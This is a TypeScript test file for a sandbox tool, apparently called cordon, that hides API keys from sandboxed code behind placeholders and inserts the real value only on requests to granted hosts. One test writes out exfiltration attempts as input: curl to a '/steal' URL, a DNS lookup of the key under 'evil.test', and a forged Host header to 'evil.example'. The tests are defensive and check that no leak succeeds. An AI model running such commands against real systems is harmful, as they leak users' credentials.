import assert from "node:assert/strict";
import fs from "node:fs";
import https from "node:https";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { run, type RunOptions } from "../../../src/sandbox/run.js";
import type { SecretEvent } from "../../../src/net/secrets/intercept.js";
import { parseSecretFlag, type SecretGrant } from "../../../src/net/secrets/secret-grant.js";
import { SandboxCertificateAuthority } from "../../../src/net/tls/certificate-authority.js";
import type { PermissionsInput } from "../../../src/policy/permissions.js";

const REAL = "sk-live-REALVALUE-7f3a9c";
const PYTHON = "/usr/bin/python3";

interface Seen {
  host: string;
  authorization: string | undefined;
  body: string;
  url: string;
}

/**
 * A loopback HTTPS "API" with its own test CA, reached by name through
 * --resolve pins. cordon's upstream check trusts that CA the way a user's
 * machine would (NODE_EXTRA_CA_CERTS for cordon's own process).
 */
describe("secrets: placeholders inside, the real value only on the wire to its hosts", () => {
  let dir: string;
  let port: number;
  let seen: Seen[];
  let server: https.Server;
  let wrongNameServer: https.Server;
  let wrongNamePort: number;
  let untrustedServer: https.Server;
  let untrustedPort: number;

  before(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "cordon-secrets-"));
    const testCa = await SandboxCertificateAuthority.create(["api.test", "other.test", "wrong.test"]);
    fs.writeFileSync(path.join(dir, "test-ca.pem"), testCa.certificatePem);
    process.env.NODE_EXTRA_CA_CERTS = path.join(dir, "test-ca.pem");
    const contexts = new Map(await Promise.all(["api.test", "other.test", "wrong.test"].map(async (h) => [h, (await testCa.contextFor(h)).context] as const)));
    seen = [];
    server = https.createServer({ SNICallback: (name, cb) => cb(null, contexts.get(name) ?? contexts.get("api.test")!) }, (req, res) => {
      let body = "";
      req.on("data", (d: Buffer) => (body += d.toString()));
      req.on("end", () => {
        seen.push({ host: String(req.headers.host).split(":")[0]!, authorization: req.headers.authorization, body, url: req.url ?? "" });
        res.setHeader("x-echo", req.headers.authorization ?? "");
        res.end(JSON.stringify({ echoed: req.headers.authorization ?? body }));
      });
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as AddressInfo).port;
    // Presents a valid certificate, but for another name, whatever name is asked for.
    wrongNameServer = https.createServer({ SNICallback: (_name, cb) => cb(null, contexts.get("wrong.test")!) }, (_req, res) => res.end("should never be reached"));
    await new Promise<void>((resolve) => wrongNameServer.listen(0, "127.0.0.1", resolve));
    wrongNamePort = (wrongNameServer.address() as AddressInfo).port;
    // The right name, from a CA this machine does not trust.
    const rogueCa = await SandboxCertificateAuthority.create(["api.test"]);
    const rogue = (await rogueCa.contextFor("api.test")).context;
    untrustedServer = https.createServer({ SNICallback: (_name, cb) => cb(null, rogue) }, (_req, res) => res.end("should never be reached"));
    await new Promise<void>((resolve) => untrustedServer.listen(0, "127.0.0.1", resolve));
    untrustedPort = (untrustedServer.address() as AddressInfo).port;
  });
  after(() => {
    server.close();
    wrongNameServer.close();
    untrustedServer.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  const inSandbox = async (script: string, extra: { permissions?: PermissionsInput; secrets?: SecretGrant[]; events?: SecretEvent[]; options?: RunOptions } = {}) => {
    seen.length = 0;
    const result = await run("/bin/sh", ["-c", script], {
      allowNet: ["api.test", "other.test"],
      allowWrite: [dir],
      timeout: "60s",
      ...extra.permissions,
    }, {
      hostEnv: { MY_KEY: REAL },
      hostCwd: dir,
      secrets: extra.secrets ?? [parseSecretFlag("MY_KEY@api.test")],
      onSecretEvent: (event) => extra.events?.push(event),
      network: { resolve: new Map([["api.test", "127.0.0.1"], ["other.test", "127.0.0.1"], ["wrong.test", "127.0.0.1"]]) },
      ...extra.options,
    });
    return { ...result, out: result.stdout.toString() + result.stderr.toString() };
  };

  test("inside, the variable is a placeholder unique to the sandbox", async () => {
    const a = await inSandbox('echo "$MY_KEY"; cat /proc/self/environ /proc/1/environ | tr "\\0" "\\n" | grep MY_KEY');
    const b = await inSandbox('echo "$MY_KEY"');
    const placeholder = a.stdout.toString().split("\n")[0]!;
    assert.match(placeholder, /^CORDON_SECRET_[0-9a-f]{32}$/);
    assert.notEqual(b.stdout.toString().trim(), placeholder);
    assert.ok(!a.out.includes(REAL));
  });

  test("Node fetch, curl and Python send it in a header and a JSON body; the API receives the real value", async () => {
    const url = `https://api.test:${port}/v1`;
    const node = `fetch("${url}/node", { method: "POST", headers: { authorization: "Bearer " + process.env.MY_KEY, "content-type": "application/json" }, body: JSON.stringify({ key: process.env.MY_KEY }) }).then((r) => r.text()).then(console.log)`;
    const py = `import json, os, urllib.request\nr = urllib.request.Request("${url}/python", data=json.dumps({"key": os.environ["MY_KEY"]}).encode(), headers={"authorization": "Bearer " + os.environ["MY_KEY"], "content-type": "application/json"})\nprint(urllib.request.urlopen(r).read().decode())`;
    fs.writeFileSync(path.join(dir, "client.py"), py);
    const result = await inSandbox(
      `node -e '${node}'; curl -sS -X POST -H "authorization: Bearer $MY_KEY" -H "content-type: application/json" -d "{\\"key\\":\\"$MY_KEY\\"}" ${url}/curl; echo; ${fs.existsSync(PYTHON) ? `${PYTHON} ${dir}/client.py` : "true"}`,
    );
    assert.equal(result.exitCode, 0, result.out);
    const clients = fs.existsSync(PYTHON) ? ["/v1/node", "/v1/curl", "/v1/python"] : ["/v1/node", "/v1/curl"];
    assert.deepEqual(seen.map((s) => s.url), clients);
    for (const request of seen) {
      assert.equal(request.authorization, `Bearer ${REAL}`, request.url);
      assert.deepEqual(JSON.parse(request.body), { key: REAL }, request.url);
    }
    // The server echoes the real value; the sandbox sees the placeholder.
    assert.ok(!result.out.includes(REAL), "an echo revealed the secret");
    assert.match(result.out, /CORDON_SECRET_/);
  });

  test("exfiltration: another granted host, a URL, DNS, a file: only the placeholder leaves", async () => {
    const events: SecretEvent[] = [];
    const result = await inSandbox(
      `curl -sSk -o /dev/null -H "authorization: $MY_KEY" "https://other.test:${port}/steal?k=$MY_KEY"; ` +
        `curl -sS -o /dev/null "https://api.test:${port}/ok"; ` +
        `getent hosts "$MY_KEY.evil.test"; curl -s -o /dev/null "http://$MY_KEY.other.test:${port}/"; ` +
        `echo "$MY_KEY" > ${dir}/dropped.txt; true`,
      { events },
    );
    const toOther = seen.find((s) => s.host === "other.test");
    assert.ok(toOther, result.out);
    assert.ok(!JSON.stringify(seen.filter((s) => s.host !== "api.test")).includes(REAL));
    assert.match(toOther.authorization ?? "", /^CORDON_SECRET_/);
    assert.match(fs.readFileSync(path.join(dir, "dropped.txt"), "utf8"), /^CORDON_SECRET_[0-9a-f]{32}\n$/);
    assert.ok(events.some((e) => e.type === "secret-exfiltration" && e.where === "host name"), JSON.stringify(events));
  });

  test("a placeholder split across two body chunks on a kept-alive connection is still replaced", async () => {
    const script = `
      const https = require("https"); const key = process.env.MY_KEY;
      const agent = new https.Agent({ keepAlive: true });
      const send = (path, parts) => new Promise((resolve) => {
        const req = https.request({ host: "api.test", port: ${port}, method: "POST", path, agent, headers: { "transfer-encoding": "chunked" } }, (res) => { res.resume(); res.on("end", resolve); });
        let i = 0; const next = () => { if (i < parts.length) { req.write(parts[i++]); setTimeout(next, 50); } else req.end(); }; next();
      });
      (async () => { await send("/split", ['{"k":"' + key.slice(0, 9), key.slice(9) + '"}']); await send("/again", [key]); agent.destroy(); })();`;
    fs.writeFileSync(path.join(dir, "split.js"), script);
    const result = await inSandbox(`node ${dir}/split.js`);
    assert.equal(result.exitCode, 0, result.out);
    assert.deepEqual(seen.map((s) => [s.url, s.body]), [["/split", `{"k":"${REAL}"}`], ["/again", REAL]]);
  });

  test("a forged Host header cannot route the real value to another site (domain fronting)", async () => {
    await inSandbox(`curl -sS -o /dev/null -H "host: evil.example" -H "authorization: $MY_KEY" https://api.test:${port}/fronted`);
    const [request] = seen;
    assert.ok(request);
    assert.equal(request.host, "api.test");
    assert.equal(request.authorization, REAL);
  });

  test("base64 and hex encodings cannot be substituted, so they stay worthless", async () => {
    await inSandbox(`curl -sS -o /dev/null -d "$(printf %s "$MY_KEY" | base64) $(printf %s "$MY_KEY" | od -An -tx1 | tr -d ' \\n')" https://api.test:${port}/encoded`);
    const [request] = seen;
    assert.ok(request);
    const [b64, hex] = request.body.split(" ");
    assert.match(Buffer.from(b64!, "base64").toString(), /^CORDON_SECRET_/);
    assert.match(Buffer.from(hex!, "hex").toString(), /^CORDON_SECRET_/);
  });

  test("an upstream certificate for the wrong name, or from an untrusted CA, fails the request clearly", async () => {
    for (const upstreamPort of [wrongNamePort, untrustedPort]) {
      const events: SecretEvent[] = [];
      const result = await inSandbox(`curl -sS -H "authorization: $MY_KEY" https://api.test:${upstreamPort}/x; echo " rc=$?"`, { events });
      assert.match(result.out, /did not verify against this machine's trust store/);
      assert.doesNotMatch(result.out, /should never be reached/);
      assert.ok(events.some((e) => e.type === "upstream-certificate"), JSON.stringify(events));
    }
  });

  test("bad secrets are refused before anything runs", async () => {
    const refuse = async (secrets: SecretGrant[], env: NodeJS.ProcessEnv, pattern: RegExp) => {
      await assert.rejects(
        run("/bin/sh", ["-c", `touch ${dir}/ran`], { allowNet: ["api.test"], allowWrite: [dir] }, { hostEnv: env, secrets }),
        (error: Error & { hint?: string }) => pattern.test(`${error.message} ${error.hint}`),
      );
      assert.ok(!fs.existsSync(path.join(dir, "ran")));
    };
    await refuse([parseSecretFlag("MISSING@api.test")], {}, /MISSING is not set in your environment/);
    await refuse([parseSecretFlag("EMPTY@api.test")], { EMPTY: "" }, /EMPTY is empty/);
    await refuse([parseSecretFlag("MY_KEY@elsewhere.test")], { MY_KEY: REAL }, /not granted network access[\s\S]*--allow-net=elsewhere\.test/);
    await refuse([parseSecretFlag(`MY_KEY=@${dir}/no-such-file@api.test`)], {}, /cannot read MY_KEY from/);
  });
});
